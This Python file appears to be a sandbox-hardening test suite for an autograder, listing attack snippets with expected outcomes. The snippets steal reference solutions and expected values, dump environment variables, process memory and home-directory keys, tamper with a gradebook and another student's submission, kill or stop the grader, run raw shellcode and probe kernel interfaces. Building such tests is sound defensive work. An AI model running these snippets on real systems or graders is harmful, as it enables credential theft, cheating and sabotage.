"""Attacks that steal what decides or is private, and reach for what is not theirs."""

from whole.attacks.attack import SAME_USER, STEAL, TRESPASS, Attack, falls, stands
from whole.attacks.result import broke, crashed, either, leaked, left, reached, said, spoiled, undeserved

ATTACKS = (
    # Steal what decides, or what is private.
    Attack(
        "borrow the reference",
        STEAL,
        """
        from grader.lessons import find
        block_matmul = find("block_matmul").reference
        """,
        undeserved,
        falls("the grader's lessons lie in the kernel's reach"),
        into="block_matmul",
    ),
    Attack(
        "read the lessons' sources",
        STEAL,
        """
        import grader
        for root in [Path(grader.__file__).parent, *map(Path, sys.path)]:
            for path in [*root.glob("lessons/**/*.py"), *root.glob("grader/lessons/**/*.py")]:
                print(path.read_text())
        """,
        said(".mistake\n"),
        falls(SAME_USER),
    ),
    Attack(
        "import the judge, and the lessons' modules",
        STEAL,
        """
        import importlib
        for name in ("grader.judging", "grader.judging.judge", "grader.explaining.explained", "grader.wording",
                     "grader.lessons.matmul.cases", "grader.classroom.store", "grader.classroom.verdicts.judge"):
            try: importlib.import_module(name); print("imported:", name)
            except ImportError: pass
        """,
        said("imported:"),
        falls("the grader's lessons lie in the kernel's reach"),
    ),
    Attack(
        "look for the judge and the lessons in every folder",
        STEAL,
        """
        import grader
        for top in (Path(grader.__file__).parents[1], sys.prefix, "/side", *sys.path, "/usr"):
            for folder, folders, files in os.walk(top):
                if re.search(r"grader/(judging|lessons/[a-z_]+$|classroom/[^i])", folder):
                    for name in {*files} - {"__init__.py", "review.py"}: print("found:", Path(folder, name))
        """,
        said("found:"),
        falls(SAME_USER),
        seconds=24,
    ),
    Attack(
        "run the solutions",
        STEAL,
        """
        text = next(ROOM.glob("course/solutions/*/*.md")).read_text()
        solution = re.search(r":answer: case3\\n\\n(.*?)```", text, re.DOTALL)[1]
        exec(solution)
        """,
        undeserved,
        falls(SAME_USER),
        into="case3",
    ),
    Attack(
        "take the expected values out of the frames",
        STEAL,
        """
        def case3(a, b, *, mesh):
            for frame in inspect.stack():
                for case in frame.frame.f_locals.get("cases", ()):
                    given = [x.value for x in case.arguments.values()]
                    if dict(case.mesh) == dict(mesh.shape) and [x.shape for x in given] == [a.shape, b.shape]:
                        return jnp.asarray(given[0] @ given[1])
        """,
        undeserved,
        falls("the values lie in a frame of check"),
        into="case3",
    ),
    Attack(
        "look for cases and seeds among all objects",
        STEAL,
        """
        import random
        for frame in inspect.stack():
            print(frame.frame.f_locals.keys(), {k: v for k, v in frame.frame.f_locals.items() if "seed" in k})
        for thing in gc.get_objects():
            if type(thing).__name__.endswith(("Case", "Exercise")):
                print("a case:", thing)
            elif isinstance(thing, dict) and "seed" in thing and type(thing["seed"]) is int:
                print("seed", thing["seed"])
        """,
        either(said("a case:"), leaked),
        stands("no case exists before the first check"),
    ),
    Attack(
        "environment variables",
        STEAL,
        """
        print(dict(os.environ))
        print(Path("/proc/self/environ").read_bytes())
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' environment and command lines",
        STEAL,
        """
        for process in Path("/proc").glob("[0-9]*"):
            for part in ("environ", "cmdline"):
                try: print(process, (process / part).read_bytes())
                except OSError: pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' memory",
        STEAL,
        """
        for process in (os.getppid(), *(int(p.name) for p in Path("/proc").glob("[0-9]*"))):
            try:
                with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
                    for low, high in (map(lambda x: int(x, 16), m.split()[0].split("-")) for m in maps if " rw" in m):
                        if process != os.getpid() and high - low < 16 << 20:
                            memory.seek(low)
                            print(*re.findall(rb"canary-\\w+-\\w+", memory.read(high - low)))
            except (OSError, OverflowError): pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "other processes' open files",
        STEAL,
        """
        for path in Path("/proc").glob("[0-9]*/fd/*"):
            try:
                if path.is_file(): print(path, os.readlink(path), path.read_bytes()[:5000])
            except OSError: pass
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "trace the process that started this one",
        STEAL,
        """
        word = ctypes.create_string_buffer(8)
        local, remote = (ctypes.c_size_t * 2)(ctypes.addressof(word), 8), (ctypes.c_size_t * 2)(id(None), 8)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:
            print("attached"); os.waitpid(os.getppid(), 0x40000000); libc.ptrace(17, os.getppid(), 0, 0)
        if libc.process_vm_readv(os.getppid(), local, 1, remote, 1, 0) > 0: print("attached")
        if libc.syscall(438, libc.syscall(434, os.getppid(), 0), 0, 0) >= 0: print("attached")
        """,
        said("attached"),
        falls(SAME_USER),
    ),
    Attack(
        "keys and tokens at home",
        STEAL,
        """
        for home in {Path.home(), ROOM / "home"}: written(home)
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack("another's hand-in", STEAL, "written(ROOM / 'course/submitted/ben')", leaked, falls(SAME_USER)),
    Attack(
        "the gradebook",
        STEAL,
        """
        with sqlite3.connect(ROOM / "course/gradebook.db") as book:
            print(book.execute("select * from student").fetchall())
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "the disc itself, and the kernel's log",
        STEAL,
        """
        for device in ("vda", "sda", "nvme0n1", "xvda", "mem", "kmsg", "port"):
            try: print("read", device, len(os.read(os.open(f"/dev/{device}", os.O_RDONLY | os.O_NONBLOCK), 9000)))
            except OSError: pass
        """,
        said("read "),
        falls("run by root, it reads the disc past all permissions"),
    ),
    Attack(
        "a key in the keyring",
        STEAL,
        """
        for ring in (-1, -2, -3, -4, -5):
            key = libc.syscall(250, 10, ring, b"user", b"bait", 0)
            text = ctypes.create_string_buffer(100)
            if key > 0 and libc.syscall(250, 11, key, text, 100) > 0: print(text.value)
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "shared memory of others",
        STEAL,
        """
        written("/dev/shm")
        libc.shmat.restype = ctypes.c_void_p
        for number in range(64):
            place = libc.shmat(number, None, 0o10000)
            if place and place != ctypes.c_void_p(-1).value: print(ctypes.string_at(place, 100))
        """,
        leaked,
        falls(SAME_USER),
    ),
    Attack(
        "talk to a server on this machine",
        STEAL,
        """
        with socket.create_connection(("127.0.0.1", PORT), 2) as server: print(server.recv(100))
        """,
        either(leaked, reached),
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "send a datagram to this machine",
        STEAL,
        """
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"all I know", ("127.0.0.1", PORT))
        """,
        reached,
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "talk to the world outside",
        STEAL,
        """
        with socket.create_connection(("203.0.113.7", PORT), 2) as server: print(server.recv(100))
        """,
        either(leaked, reached),
        falls("the kernel has the machine's network"),
    ),
    Attack(
        "an abstract socket",
        STEAL,
        r"""
        for line in Path("/proc/net/unix").read_text().splitlines():
            if "@bait" in line:
                with socket.socket(socket.AF_UNIX) as server:
                    server.connect("\0" + line.split("@")[1]); print(server.recv(100))
        with socket.socket(socket.AF_UNIX) as server: server.connect("\0bait"); print(server.recv(100))
        """,
        either(leaked, reached),
        falls("abstract sockets belong to the network"),
    ),
    Attack(
        "a socket in the file system",
        STEAL,
        """
        with socket.socket(socket.AF_UNIX) as server: server.connect(str(ROOM / "socket")); print(server.recv(100))
        """,
        either(leaked, reached),
        falls(SAME_USER),
    ),
    Attack(
        "a port of one's own",
        STEAL,
        """
        door = socket.create_server(("0.0.0.0", PORT + 1)); time.sleep(1.5)
        """,
        reached,
        falls("the kernel has the machine's network"),
    ),
    # Read, write or stop what is not theirs.
    Attack(
        "write a file outside",
        TRESPASS,
        """
        (ROOM / "loot/mallory").write_text(MARK)
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "change another's hand-in",
        TRESPASS,
        """
        path = ROOM / "course/submitted/ben/01_mini/01_mini.ipynb"
        path.write_text(path.read_text().replace("BEGIN SOLUTION", MARK))
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "write into the gradebook",
        TRESPASS,
        """
        with sqlite3.connect(ROOM / "course/gradebook.db", 2) as book: book.execute("pragma user_version = 66")
        """,
        left,
        falls(SAME_USER),
    ),
    Attack(
        "a link where the grader will write",
        TRESPASS,
        """
        for name in ("fontlist-v390.json", "fontlist-v400.json", "fontlist.json", "matplotlibrc", "01_mini.ipynb"):
            for place in (Path.home(), Path.cwd(), Path(tempfile.gettempdir())):
                (place / name).unlink(missing_ok=True); (place / name).symlink_to(ROOM / f"loot/mallory-{name}")
        """,
        left,
        falls("the graded notebook is written through it"),
        later=True,
    ),
    Attack(
        "kill everything",
        TRESPASS,
        "os.kill(-1, signal.SIGKILL)",
        either(broke, spoiled),
        falls("the grader, and all else of the same user, is killed with it"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "kill the process that started this one",
        TRESPASS,
        """
        os.kill(os.getppid(), signal.SIGKILL); os.killpg(os.getppid(), signal.SIGKILL)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "stop the process that started this one",
        TRESPASS,
        """
        os.kill(os.getppid(), signal.SIGSTOP)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
        seconds=6,
    ),
    Attack(
        "have the kernel kill it",
        TRESPASS,
        """
        import fcntl
        one, other = socket.socketpair()
        for number, command in ((os.getppid(), 8), (signal.SIGKILL, 10), (os.O_ASYNC | os.O_NONBLOCK, 4)):
            fcntl.fcntl(one, command, number)
        other.send(b"now"); time.sleep(0.2)
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "rob the process that started this one of its limits",
        TRESPASS,
        """
        for kind in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
            try: resource.prlimit(os.getppid(), kind, (8, 8))
            except OSError: pass
        """,
        either(broke, spoiled),
        falls("it is the grader"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "spoil the descriptors that are shared",
        TRESPASS,
        """
        import fcntl
        for fd in range(3, 64):
            for spoil in (lambda: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK), lambda: os.ftruncate(fd, 0),
                          lambda: os.lseek(fd, 0, 0), lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)):
                try: spoil()
                except OSError: pass
        """,
        crashed,
        stands("the kernel shares none that matters"),
        solved=True,
        middle=True,
        later=True,
    ),
    Attack(
        "a user namespace of one's own",
        TRESPASS,
        """
        if libc.unshare(0x10000000 | 0x20000) == 0: print("in a namespace of its own")
        if libc.mount(b"none", b"/proc", b"tmpfs", 0, None) == 0: libc.umount2(b"/proc", 2); print("mounted")
        """,
        either(said("in a namespace"), said("mounted")),
        falls("run by root, it mounts what it likes"),
    ),
    Attack(
        "the kernel's knobs",
        TRESPASS,
        """
        for knob in ("proc/sys/kernel/core_pattern", "proc/sysrq-trigger", "proc/sys/vm/drop_caches", "dev/kmsg",
                     "sys/kernel/mm/transparent_hugepage/enabled", "sys/power/state", "proc/1/oom_score_adj"):
            try: os.open(f"/{knob}", os.O_WRONLY); print("a knob:", knob)
            except OSError: pass
        """,
        said("a knob:"),
        falls("run by root, it opens them for writing"),
    ),
    Attack(
        "the kernel's back doors",
        TRESPASS,
        """
        door = {"io_uring": (425, 8, ctypes.create_string_buffer(200)), "userfaultfd": (323, 0), "bpf": (321, 0, 0, 0),
                "perf": (298, ctypes.create_string_buffer(b"\\1\\0\\0\\0\\x70", 112), 0, -1, -1, 0),
                "message queue": (68, 0, 0o1600), "semaphore": (64, 0, 1, 0o1600), "shared memory": (29, 0, 99, 0o1600)}
        for name, call in door.items():
            if libc.syscall(*call) >= 0: print("open:", name)
        """,
        said("open:"),
        falls("nothing closes them"),
    ),
    Attack(
        "a process by the old door",
        TRESPASS,
        """
        if os.uname().machine == "x86_64":
            code = mmap.mmap(-1, 4096, prot=7)
            code.write(b"\\x53\\xb8\\x02\\0\\0\\0\\xcd\\x80\\x5b\\xc3")  # fork, as 32-bit programs call it
            child = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
            if child == 0: os._exit(0)
            if child > 0: print("forked")
        """,
        said("forked"),
        falls("nothing closes it"),
        seconds=3,
        slow=True,
    ),
    Attack(
        "processes by other ways than fork",
        TRESPASS,
        """
        if os.uname().machine == "x86_64":
            try:
                code = mmap.mmap(-1, 4096, prot=7)  # vfork, and the child ends before it returns
                code.write(b"\\xb8\\x3a\\0\\0\\0\\x0f\\x05\\x85\\xc0\\x75\\x09\\x31\\xff\\xb8\\x3c\\0\\0\\0\\x0f\\x05\\xc3")
                number = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
            except OSError: number = libc.syscall(58) or os._exit(0)
            if number > 0: print("forked")
        if libc.syscall(447, 0) > 0: print("opened memory that the kernel cannot see")
        for kind in ("pid", "mnt", "net", "ipc", "user"):
            try: libc.setns(os.open(f"/proc/1/ns/{kind}", 0), 0) or print("opened", kind)
            except OSError: pass
        """,
        either(said("forked"), said("opened")),
        falls(SAME_USER),
    ),
)
